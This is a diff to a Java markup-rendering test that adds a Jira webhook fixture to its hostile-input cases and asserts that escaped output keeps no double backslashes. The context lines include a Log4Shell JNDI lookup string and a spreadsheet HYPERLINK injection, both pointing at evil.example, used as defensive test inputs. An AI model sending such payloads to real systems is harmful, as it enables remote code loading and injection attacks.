@@ -12,7 +12,9 @@ import dev.pipewright.core.report.Block.Row;
 import dev.pipewright.core.report.Block.Table;
 import dev.pipewright.core.ticket.TicketSystem;
 import dev.pipewright.tickets.mapping.Mappings;
+import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.Collections;
 import java.util.List;
@@ -51,8 +53,10 @@ class MarkupTest {
             "=HYPERLINK(\"https://evil.example\")",
             "${jndi:ldap://evil.example/a}");
 
-    static Stream<String> hostile() {
-        return HOSTILE.stream();
+    static Stream<String> hostile() throws IOException {
+        var sample = Json.tree(Files.readString(Path.of("../../events/webhooks/jira/hostile-text.json")));
+        return Stream.concat(
+                HOSTILE.stream(), Stream.of(sample.at("/issue/fields/summary").asText()));
     }
 
     @ParameterizedTest
@@ -65,6 +69,9 @@ class MarkupTest {
                 .toList();
         assertThat(parts).as("one block of code, which its text does not end").hasSize(2);
         var outside = String.join("\n", parts);
+        assertThat(outside)
+                .as("two are a line break, and what follows is markup again")
+                .doesNotContain("\\\\");
         // What a backslash escapes is text; of the rest only what the spelling itself writes may be left.
         var live =
                 Pattern.compile("\\\\[-#*_+?^~|%{}\\[\\]()!@]").matcher(outside).replaceAll("");
